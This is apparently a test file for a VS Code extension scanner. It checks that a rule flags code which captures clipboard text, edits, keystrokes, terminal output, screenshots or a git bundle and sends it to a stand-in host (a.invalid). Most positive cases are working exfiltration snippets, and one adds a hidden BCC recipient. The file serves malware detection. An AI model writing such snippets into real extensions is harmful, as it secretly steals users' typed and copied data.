"""What is typed, copied or shown, and sent. Payloads are inert: hosts end in .invalid."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.capture import CHECK

RULE = "captured-content"
START = """
const vscode = require("vscode"), cp = require("child_process"), fs = require("fs");
const url = "https://a.invalid/s", post = (body) => fetch(url, { method: "POST", body });
"""


@pytest.mark.parametrize(
    "source",
    [
        "setInterval(async () => post(await vscode.env.clipboard.readText()), 5000);",
        "vscode.env.clipboard.readText().then((t) => post(t));",
        "vscode.env.clipboard.readText().then(post);",
        (
            "async function f() { await vscode.window.showInformationMessage('Welcome', 'Yes');"
            " post(await vscode.env.clipboard.readText()); }"
        ),
        "vscode.workspace.onDidChangeTextDocument((e) => post(e.contentChanges[0].text));",
        (
            "vscode.workspace.onDidChangeTextDocument((e) => {"
            " const t = e.document.getText(); post(JSON.stringify({ t })); });"
        ),
        "vscode.workspace.onDidSaveTextDocument((d) => post(d.getText()));",
        "vscode.workspace.onDidOpenTextDocument(async (d) => { await post(d.getText()); });",
        "vscode.window.onDidWriteTerminalData((e) => post(e.data));",
        (  # a minifier keeps the names of functions so
            "const d = Object.defineProperty, named = (f, name) => d(f, 'name', { value: name });"
            " const send = named((kind, text) => post(kind + text), 'send');"
            " vscode.window.onDidStartTerminalShellExecution(async (e) => {"
            " for await (const part of e.execution.read()) send('o', part); });"
        ),
        (
            "let typed = ''; vscode.workspace.onDidChangeTextDocument((e) => {"
            " typed += e.contentChanges[0].text; }); setInterval(() => post(typed), 9000);"
        ),
        "require('screenshot-desktop')().then((picture) => post(picture));",
        (
            "setInterval(() => { cp.execSync('screencapture -x /tmp/p.png');"
            " post(fs.readFileSync('/tmp/p.png')); }, 9000);"
        ),
        "setInterval(() => cp.exec('pbpaste', (e, out) => post(out)), 2000);",
        (
            "setInterval(() => { const e = vscode.window.activeTextEditor;"
            " if (e) post(e.document.getText()); }, 60000);"
        ),
        "const { readText: take } = vscode.env.clipboard; setInterval(() => take().then(post), 9);",
        "cp.exec('git bundle create - --all', (e, out) => post(out));",
        (
            "require('nodemailer').createTransport({}).sendMail("
            "{ to: order.email, bcc: 'a@a.invalid', text });"
        ),
        (
            "const keys = []; vscode.commands.registerCommand('type', (a) => { keys.push(a.text);"
            " post(keys.splice(0).join('')); });"
        ),
        (
            "class R { take({ document }) { post(document.getText()); } } const r = new R();"
            " vscode.workspace.onDidChangeTextDocument(r.take, r);"
        ),
    ],
)
def test_captured_content_that_is_sent_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        (
            "vscode.languages.registerCompletionItemProvider('*', { async provide(d) "
            "{"
            " const r = await post(d.getText()); return (await r.json()).items; } });"
        ),
        (
            "vscode.commands.registerCommand('a.send', () =>"
            " post(vscode.window.activeTextEditor.document.getText()));"
        ),
        (
            "vscode.commands.registerCommand('a.paste', async () => {"
            " const r = await post(await vscode.env.clipboard.readText()); show(await r); });"
        ),
        (
            "vscode.workspace.onDidSaveTextDocument((d) => { const server ="
            " vscode.workspace.getConfiguration('a').get('server');"
            " fetch(server, { method: 'POST', body: d.getText() }); });"
        ),
        (
            "vscode.workspace.onDidSaveTextDocument(async (d) => {"
            " const r = await post(d.getText()); mark(await r.json()); });"
        ),
        (
            "vscode.workspace.onDidSaveTextDocument(async (d) => { const r = await fetch(url,"
            " { method: 'POST', body: d.getText() }); mark(await r.json()); });"
        ),
        (
            "vscode.commands.registerCommand('a.paste', async () => { const r = await fetch(url,"
            " { method: 'POST', body: await vscode.env.clipboard.readText() }); show(r); });"
        ),
        (
            "async function f() { const ok = await vscode.window.showInformationMessage("
            "'May the text on the clipboard be sent?', 'Yes'); if (ok) fetch(url,"
            " { method: 'POST', body: await vscode.env.clipboard.readText() }); }"
        ),
        "vscode.workspace.onDidSaveTextDocument((d) => post(d.languageId));",
        "vscode.workspace.onDidSaveTextDocument((d) => post(d.getText().length));",
        "vscode.workspace.onDidSaveTextDocument((d) => { format(d.getText()); post('saved'); });",
        "vscode.env.clipboard.readText().then((t) => show(t)); post('x');",
        "vscode.env.clipboard.writeText('x'); post('x');",
        (
            "async function f() { const ok = await vscode.window.showInformationMessage("
            "'May the text on the clipboard be sent?', 'Yes'); if (ok) post("
            "await vscode.env.clipboard.readText()); }"
        ),
        "cp.exec('git status', (e, out) => post(out));",
        "fs.readFile('/tmp/p.png', (e, d) => post(d));",
        "send({ to: 'a', bcc: 'b@a.invalid' });",
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM


def test_the_message_has_the_source_and_both_lines() -> None:
    source = """\
const vscode = require('vscode');
setInterval(async () => {
  const copied = await vscode.env.clipboard.readText();
  fetch('https://a.invalid/s', { method: 'POST', body: copied });
}, 1000);
"""
    (finding,) = findings_of(CHECK, source)
    assert "vscode.env.clipboard.readText (line 3)" in finding.message
    assert "sends it (line 4)" in finding.message
    assert finding.line == 4
